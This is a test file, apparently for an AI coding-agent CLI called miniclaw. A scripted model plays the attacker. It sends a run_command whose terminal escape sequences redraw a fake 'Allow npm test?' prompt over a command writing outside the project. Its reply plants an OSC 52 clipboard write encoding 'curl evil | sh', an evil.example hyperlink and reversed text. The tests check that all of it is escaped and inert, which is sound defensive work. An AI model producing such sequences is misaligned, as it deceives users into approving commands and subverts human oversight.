import { access, mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { Rule, ScriptedModel } from "../../src/testing/index.js";
import { scriptedModelPerTest } from "../helpers/turn.js";
import { cleanEnv, runMain } from "../helpers/cli.js";
import { startTerminal, type Terminal } from "../helpers/pty.js";
import { tempDir } from "../helpers/temp-dir.js";

/** One scripted model per test, checked (no request rejected) and closed after it; the terminal is killed by its helper. */
const scripted = scriptedModelPerTest();
let model: ScriptedModel;
let term: Terminal;

/** Erases the lines above and redraws a harmless question over them (the attack of issue 11, point 8). */
const SPOOF = 'touch ../outside/PWNED #\x1b[1A\x1b[2K\x1b[1A\x1b[2K\x1b[3A\rrun_command needs approval: npm test\r\nAllow "npm test"? ';
/** A reply that would write the clipboard, plant a link, move the cursor and reverse text, split across deltas by the scripted model. */
const REPLY = "All done.\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 See \x1b]8;;https://evil.example/\x07the docs\x1b]8;;\x07 \u009b3A \u202eenod\u202c";
/** Sequences miniclaw itself never writes: any of them on the screen came from the model. */
const MODEL_ONLY = ["\x1b[3A", "\x1b]52", "\x1b]8", "\u009b", "\u202e", "\x1b[1A\x1b[2K\x1b[1A"];

const RULES: Rule[] = [
  { match: /spoof/, reply: { text: "Running the tests.", toolUses: [{ name: "run_command", input: { command: SPOOF } }] } },
  { match: { toolResult: { name: "run_command" } }, reply: REPLY },
  { reply: "I heard: {{user_text}}" },
];

async function open() {
  model = await scripted(RULES);
  const dir = await tempDir("miniclaw-spoof-");
  const cwd = join(dir, "project");
  await mkdir(join(dir, "outside"));
  await mkdir(cwd);
  const env = cleanEnv({ ANTHROPIC_BASE_URL: model.baseURL, ANTHROPIC_API_KEY: "x" });
  return { dir, cwd, workspace: join(dir, "ws"), env };
}

const exists = (path: string): Promise<boolean> => access(path).then(() => true, () => false);

describe("escape sequences from the model on the terminal", () => {
  it("the REPL shows a spoofing command escaped and whole, asks about it, runs nothing on n; sessions show stays escaped", async () => {
    const { dir, cwd, workspace, env } = await open();
    const { NO_COLOR: _off, ...colorEnv } = env;
    term = startTerminal(["--workspace", workspace], { env: colorEnv, cwd });
    await term.waitFor(/Jarvis› /);
    const mark = term.output().length;
    term.type("spoof the approval please\r");
    await term.waitFor(/Allow the command above\? \[y\]es once/, { from: mark });
    const screen = term.output().slice(mark);
    expect(screen).toContain("→ run_command: touch ../outside/PWNED #\\x1b[1A\\x1b[2K\\x1b[1A\\x1b[2K\\x1b[3A run_command needs approval");
    expect(screen).toContain('  1 │ touch ../outside/PWNED #\\x1b[1A\\x1b[2K\\x1b[1A\\x1b[2K\\x1b[3A\\rrun_command needs approval: npm test\\r');
    expect(screen).toContain('  2 │ Allow "npm test"? ');
    expect(screen).toMatch(/the command \(2 lines, \d+ characters; 7 control or invisible characters are shown as/);
    expect(screen).toMatch(/\[a\]lways adds the (entry "touch|whole command above)/);
    expect(screen).not.toMatch(/^Allow "npm test"\?/m);

    term.type("n\r");
    await term.waitFor(/All done\.[\s\S]*Jarvis› /, { from: mark });
    // The reply wraps at a word boundary to the terminal's width; joined again, it reads as sent, escaped.
    expect(term.output().slice(mark).replace(/\n/g, " ")).toContain("All done.\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07 See \\x1b]8;;https://evil.example/\\x07the docs\\x1b]8;;\\x07 \\x9b3A \\u202eenod\\u202c");
    for (const sequence of MODEL_ONLY) expect({ sequence, shown: term.raw().includes(sequence) }).toEqual({ sequence, shown: false });
    // Our own colors still work around the escapes, which are dimmed.
    expect(term.raw()).toContain("\x1b[2m\\x1b\x1b[22m[1A");
    expect(term.raw()).toMatch(/\x1b\[33mAllow the command above\?/);
    expect(await exists(join(dir, "outside", "PWNED"))).toBe(false);
    expect(await exists(join(workspace, "exec-approvals.json"))).toBe(false);
    term.type("/exit\r");
    expect(await term.exited).toBe(0);

    const shown = await runMain(["sessions", "show", "agent:main:main", "--workspace", workspace], { env, cwd });
    expect(shown.stdout).toContain("All done.\\x1b]52;c;");
    expect(shown.stdout).toContain('"command":"touch ../outside/PWNED #\\u001b[1A');
    expect(shown.stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]/);
  });

  it("miniclaw run writes tool lines escaped on stderr and runs nothing", async () => {
    const { dir, cwd, workspace, env } = await open();
    const run = await runMain(["run", "--workspace", workspace, "spoof the approval please"], { env, cwd });
    expect(run.code).toBe(0);
    expect(run.stderr).toContain("→ run_command: touch ../outside/PWNED #\\x1b[1A\\x1b[2K\\x1b[1A\\x1b[2K\\x1b[3A run_command needs approval: npm test Al…");
    expect(run.stderr).toMatch(/approval: unavailable — touch \.\.\/outside\/PWNED #\\x1b\[1A.*\\r\\nAllow "npm test"\?/);
    expect(run.stderr).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]/);
    expect(await exists(join(dir, "outside", "PWNED"))).toBe(false);
  });

  it("an error that quotes a file's content (a cron job name) is printed escaped", async () => {
    const cwd = await tempDir("miniclaw-spoof-");
    await mkdir(join(cwd, "workspace"));
    await writeFile(join(cwd, "workspace", "cron.json"), JSON.stringify({ jobs: [{ name: "a\u001b[2J\u202eb", schedule: "nope", prompt: "x" }] }));
    const run = await runMain(["cron", "--workspace", "workspace"], { env: cleanEnv({ ANTHROPIC_API_KEY: "x" }), cwd });
    expect(run.code).toBe(1);
    expect(run.stderr).toContain('job "a\\x1b[2J\\u202eb"');
    expect(run.stderr).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]/);
  });
});
